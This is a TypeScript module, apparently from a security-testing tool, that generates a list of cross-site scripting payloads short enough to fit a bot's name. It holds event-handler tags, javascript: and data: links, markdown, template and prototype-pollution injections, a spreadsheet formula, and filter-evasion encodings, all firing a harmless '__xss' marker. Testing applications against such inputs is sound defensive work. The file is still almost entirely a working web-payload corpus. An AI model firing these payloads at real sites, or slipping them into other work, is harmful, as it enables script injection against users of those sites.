/** The payload: sets a marker on the page. */
const RUN = '__xss=1';
export const MARK = '__xss';

/** Elements that run code when they load, fail, appear or get the focus. */
const ELEMENTS = [
  '<img src=x onerror=RUN>',
  '<img/src=`x`/onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN//',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x>',
  '<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x">',
  '<svg><foreignObject><img src=x onerror=RUN>',
  '<math><mtext><img src=x onerror=RUN>',
  '<math href="javascript:RUN">x</math>',
  '<video src=x onerror=RUN>',
  '<video><source onerror=RUN>',
  '<audio src=x onerror=RUN>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<details open ontoggle=RUN>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>',
  '<button autofocus onfocus=RUN>',
  '<a href=# autofocus onfocus=RUN>',
  '<div tabindex=1 autofocus onfocus=RUN>',
  '<div contenteditable autofocus onfocus=RUN>',
  '<x onfocus=RUN tabindex=1 autofocus>',
  '<marquee onstart=RUN>',
  '<iframe src="javascript:RUN">',
  '<iframe srcdoc="<script>parent.RUN</script>">',
  '<iframe onload=RUN>',
  '<object data="javascript:RUN">',
  '<object onerror=RUN data=x>',
  '<embed src="javascript:RUN">',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<style onload=RUN>',
  '<style>@import "javascript:RUN";</style>',
  '<script>RUN</script>',
  '<script src="data:,RUN"></script>',
  '<script type=module>window.RUN</script>',
  '<form action="javascript:RUN"><button autofocus>',
  '<form id=__xss><input name=x>',
  '<img name=__xss>',
  '<a id=__xss>',
  '<base href="javascript:RUN//">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<div style="animation:x" onanimationstart=RUN>',
  '<div style="background:url(javascript:RUN)">',
  '<div style="width:expression(RUN)">',
  '<p onpointerover=RUN>over</p>',
  '<table background="javascript:RUN">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<template><img src=x onerror=RUN></template>',
  '<xmp><img src=x onerror=RUN></xmp>',
  '<dialog open onfocus=RUN tabindex=0 autofocus>',
  '<isindex action="javascript:RUN" type=image>',
  '<keygen autofocus onfocus=RUN>',
  '<track onerror=RUN src=x>',
  '<portal src="javascript:RUN">',
] as const;

/** Prefixes that close the surrounding markup. */
const ESCAPES = ['">', "'>", '</title>', '</textarea>', '</style>', '</script>', '--><!-- >', ']]>', '`>', '"/><x y="'] as const;
const ESCAPING = ['<img src=x onerror=RUN>', '<svg onload=RUN>', '<script>RUN</script>'] as const;
const ATTRIBUTES = [
  '" onfocus=RUN autofocus "',
  "' onfocus=RUN autofocus '",
  '" onmouseover="RUN" x="',
  '" style="x:expression(RUN)" "',
  '`onerror=RUN`',
  ' onerror=RUN ',
  '"-RUN-"',
  "'-RUN-'",
  '";RUN//',
  "';RUN//",
  '\\";RUN//',
  '*/RUN/*',
  '</script><script>RUN//',
] as const;

const LINKS = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  '\u0001javascript:RUN',
  'javascript&colon;RUN',
  '&#106;avascript:RUN',
  '&#x6A&#x61vascript:RUN',
  'javascript://x%0ARUN',
  'javascript:/*--></title>*/RUN',
  'vbscript:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+',
  'blob:RUN',
  'feed:javascript:RUN',
  'view-source:javascript:RUN',
  'filesystem:javascript:RUN',
] as const;
const MARKDOWN = [
  '[x](LINK)',
  '![x](LINK)',
  '<LINK>',
  '[x]: LINK\n\n[x]',
  '[![x](LINK)](LINK)',
  '[x](<LINK>)',
  '[x](https://a "LINK")',
] as const;
const WRITTEN = [
  '![x](x"onerror=RUN)',
  '![" onerror="RUN](x)',
  '[x](x "onmouseover=RUN)',
  '```\n</code></pre><img src=x onerror=RUN>\n```',
  '```"onload=RUN\nx\n```',
  '`<img src=x onerror=RUN>`',
  '> <img src=x onerror=RUN>',
  '| <img src=x onerror=RUN> |\n| - |\n| x |',
  '- <svg onload=RUN>',
  '# <svg onload=RUN>',
  '**<b onclick=RUN>x</b>**',
  '<!-- --!><img src=x onerror=RUN> -->',
  '![Generated Image](javascript:RUN)',
  '![Generated Image](data:image/svg+xml,<svg onload=RUN>)',
  '<https://a"onmouseover=RUN>',
  'https://a/"onmouseover="RUN',
  '[^1]: <img src=x onerror=RUN>',
  '<details open ontoggle=RUN><summary>x</summary></details>',
] as const;

const TEMPLATES = [
  '{{RUN}}',
  '{{constructor.constructor("RUN")()}}',
  '{{$on.constructor("RUN")()}}',
  '{{[].pop.constructor`RUN```}}',
  '${RUN}',
  '#{RUN}',
  '<%= RUN %>',
  '{%RUN%}',
  '[[RUN]]',
  '@(RUN)',
  '{{username}}',
  '{{- name}}',
  '$t(common.loading)',
  '$t(form.name, {"x": "RUN"})',
  '%{RUN}',
  '{RUN}',
  '__proto__',
  'constructor.prototype.__xss',
  '=HYPERLINK("javascript:RUN")',
] as const;

/** Spellings of the same tag that filters may miss. */
const DISGUISES: readonly ((payload: string) => string)[] = [
  (payload) =>
    payload.replace(/[a-z]/gi, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)).replace(/__XSS/gi, MARK),
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '&#60;'),
  (payload) => payload.replaceAll('<', '\\u003c'),
  (payload) => payload.replaceAll('<', '\\x3c'),
  (payload) => payload.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (payload) => payload.replaceAll('<', '%253C'),
  (payload) => payload.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
  (payload) => payload.replaceAll(' ', '/'),
  (payload) => payload.replaceAll(' ', '\t'),
  (payload) => payload.replaceAll(' ', '\f'),
  (payload) => payload.replace('<', '<<'),
  (payload) => payload.replaceAll('=', ' = '),
  (payload) => payload.replace(/>$/, ''),
  (payload) => `\u202E${payload}`,
  (payload) => payload.replace(RUN, `\`\${${RUN}}\``),
];
const DISGUISED = ['<img src=x onerror=RUN>', '<svg onload=RUN>', '<a href="javascript:RUN">x</a>'] as const;

const HOW_MANY = 300;
const LONGEST = 100;

/** Different attempts to run a script from a text, each short enough for the name of a bot. */
export const PAYLOADS: readonly string[] = collect().slice(0, HOW_MANY);

function collect(): string[] {
  const armed = (payload: string): string => payload.replaceAll('RUN', RUN);
  const all = [
    ...ELEMENTS,
    ...ATTRIBUTES,
    ...LINKS,
    ...WRITTEN,
    ...TEMPLATES,
    ...ESCAPES.flatMap((escape) => ESCAPING.map((payload) => escape + payload)),
    ...LINKS.flatMap((link) => MARKDOWN.map((payload) => payload.replaceAll('LINK', link))),
  ].map(armed);
  const disguised = DISGUISES.flatMap((disguise) => DISGUISED.map((payload) => disguise(armed(payload))));
  return [...new Set([...disguised, ...all])].filter(({ length }) => length <= LONGEST);
}

/** The payloads joined into as few texts of at most `max` characters as possible. */
export function packed(payloads: readonly string[], max: number, between = ' '): string[] {
  const texts: string[] = [];
  for (const payload of payloads.filter(({ length }) => length <= max)) {
    const longer = [texts.at(-1) ?? payload, ...(texts.length > 0 ? [payload] : [])].join(between);
    if (texts.length > 0 && longer.length <= max) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}
